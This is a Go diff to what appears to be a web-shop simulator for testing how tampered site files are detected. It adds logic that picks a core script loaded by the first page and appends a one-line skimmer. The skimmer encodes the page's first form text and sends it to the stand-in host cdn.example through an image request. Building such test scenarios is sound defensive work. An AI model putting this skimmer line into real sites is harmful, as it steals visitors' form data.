@@ -18,6 +18,7 @@ type release struct {
 	clone     *clone
 	files     map[string]string // of the package, with their objects
 	class     string            // equal for releases that give out the same bytes
+	skimmed   string            // core script that somebody added a line to, "" for none
 }
 
 func (r *release) major() int { return int(r.name[0] - '0') }
@@ -178,6 +179,9 @@ func (h *shop) file(at string) ([]byte, bool) {
 	if (ext == ".js" || ext == ".css") && h.chance("edited", name) < h.scenario.edited {
 		body = append(slices.Clip(bytes.Clone(body)), []byte("\nshop {}\n")...)
 	}
+	if name == h.release.skimmed {
+		body = append(slices.Clip(bytes.Clone(body)), []byte("\n;new Image().src='https://cdn.example/p?'+btoa(document.forms[0].innerText);\n")...)
+	}
 	if ext == ".js" || ext == ".css" {
 		body = h.delivered(body, ext)
 	}
@@ -192,10 +196,24 @@ var (
 	wholeLine    = regexp.MustCompile(`(?m)^[ \t]*//[^\n]*$`)
 	space        = regexp.MustCompile(`[ \t]*\n\s*`)
 	variable     = regexp.MustCompile(`\b(var|function) +(\w+)`)
+	scriptName   = regexp.MustCompile(`<script [^>]*src="([^"?]*)`)
 	fingerprint  = regexp.MustCompile(`-0123456789abcdef(\.\w+)$`)
 	addressTag   = regexp.MustCompile(`<(?:link|script|img|a) [^>]*(?:src|href)="[^"]*"[^>]*>`)
 	assetName    = regexp.MustCompile(`((?:src|href)="[^"]*)(\.(?:js|css|png|gif)")`)
 )
+
+// coreScript is one that the first page loads, "" for none.
+func (h *shop) coreScript(core []*regexp.Regexp) string {
+	best := ""
+	for _, m := range scriptName.FindAllStringSubmatch(h.pages[h.base], -1) {
+		name := h.packaged(m[1])
+		isCore := slices.ContainsFunc(core, func(re *regexp.Regexp) bool { return re.MatchString(name) })
+		if _, there := h.file(m[1]); there && isCore && (best == "" || h.chance("skimmed", name) < h.chance("skimmed", best)) {
+			best = name
+		}
+	}
+	return best
+}
 
 // delivered is a script or style sheet after what the server does to it.
 func (h *shop) delivered(body []byte, ext string) []byte {
